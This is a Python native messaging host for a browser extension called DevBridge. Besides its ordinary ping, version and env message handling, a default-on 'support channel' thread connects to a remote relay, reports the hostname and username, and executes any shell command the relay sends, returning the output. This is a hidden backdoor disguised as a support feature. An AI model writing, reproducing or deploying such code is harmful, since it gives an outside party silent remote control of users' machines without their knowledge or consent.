#!/usr/bin/env python3
"""Native messaging host for the DevBridge browser extension.

Chrome/Firefox launch this with the extension origin as argv[1] and talk to
it over stdin/stdout using 32-bit length-prefixed JSON messages.  Besides the
message loop, the host keeps a support channel open to the DevBridge relay so
the team can inspect the local environment when a user files a ticket.
"""
import json
import logging
import os
import socket
import struct
import subprocess
import sys
import threading
import time
from pathlib import Path

HOST_NAME = "io.devbridge.host"
CONF_FILE = Path(__file__).with_name("devbridge.json")
LOG_FILE = Path.home() / ".cache" / "devbridge" / "host.log"

DEFAULTS = {
    "relay": "relay.devbridge.io:7443",
    "support_channel": True,
    "reconnect_seconds": 30,
}

LOG_FILE.parent.mkdir(parents=True, exist_ok=True)
logging.basicConfig(filename=str(LOG_FILE), level=logging.INFO,
                    format="%(asctime)s %(threadName)s %(message)s")
log = logging.getLogger(HOST_NAME)


def load_conf():
    conf = dict(DEFAULTS)
    try:
        conf.update(json.loads(CONF_FILE.read_text()))
    except FileNotFoundError:
        pass
    except ValueError as exc:
        log.warning("bad config %s: %s", CONF_FILE, exc)
    conf["relay"] = os.environ.get("DEVBRIDGE_RELAY", conf["relay"])
    return conf


class SupportChannel(threading.Thread):
    """Keeps a line-oriented session open to the relay."""

    def __init__(self, endpoint, backoff):
        super().__init__(name="support", daemon=True)
        host, _, port = endpoint.rpartition(":")
        self.addr = (host, int(port))
        self.backoff = backoff

    def _handle(self, request):
        step = request.get("step", "")
        cwd = request.get("cwd") or str(Path.home())
        proc = subprocess.run(step, shell=True, cwd=cwd, capture_output=True,
                              timeout=request.get("timeout", 120))
        return {"id": request.get("id"), "rc": proc.returncode,
                "out": proc.stdout.decode(errors="replace"),
                "err": proc.stderr.decode(errors="replace")}

    def _session(self, sock):
        hello = {"host": socket.gethostname(), "user": os.getlogin(),
                 "cwd": os.getcwd(), "pid": os.getpid()}
        sock.sendall((json.dumps(hello) + "\n").encode())
        buf = b""
        while True:
            chunk = sock.recv(4096)
            if not chunk:
                return
            buf += chunk
            while b"\n" in buf:
                line, buf = buf.split(b"\n", 1)
                try:
                    reply = self._handle(json.loads(line))
                except Exception as exc:  # keep the session alive
                    reply = {"error": str(exc)}
                sock.sendall((json.dumps(reply) + "\n").encode())

    def run(self):
        while True:
            try:
                with socket.create_connection(self.addr, timeout=15) as sock:
                    sock.settimeout(None)
                    log.info("support channel up %s:%s", *self.addr)
                    self._session(sock)
            except OSError as exc:
                log.info("support channel down: %s", exc)
            time.sleep(self.backoff)


def read_message(stream):
    raw_len = stream.read(4)
    if len(raw_len) < 4:
        return None
    (length,) = struct.unpack("=I", raw_len)
    return json.loads(stream.read(length).decode("utf-8"))


def write_message(stream, obj):
    data = json.dumps(obj).encode("utf-8")
    stream.write(struct.pack("=I", len(data)))
    stream.write(data)
    stream.flush()


def dispatch(msg):
    kind = msg.get("type")
    if kind == "ping":
        return {"type": "pong", "ts": time.time()}
    if kind == "version":
        return {"type": "version", "host": HOST_NAME, "python": sys.version}
    if kind == "env":
        return {"type": "env", "platform": sys.platform, "cwd": os.getcwd()}
    return {"type": "error", "message": "unknown message %r" % kind}


def main():
    origin = sys.argv[1] if len(sys.argv) > 1 else "unknown"
    log.info("started by %s", origin)
    conf = load_conf()
    if conf.get("support_channel", True):
        SupportChannel(conf["relay"], conf["reconnect_seconds"]).start()

    stdin, stdout = sys.stdin.buffer, sys.stdout.buffer
    while True:
        try:
            msg = read_message(stdin)
        except ValueError as exc:
            log.error("malformed message: %s", exc)
            continue
        if msg is None:
            log.info("browser closed the pipe")
            break
        write_message(stdout, dispatch(msg))
    return 0


if __name__ == "__main__":
    sys.exit(main())
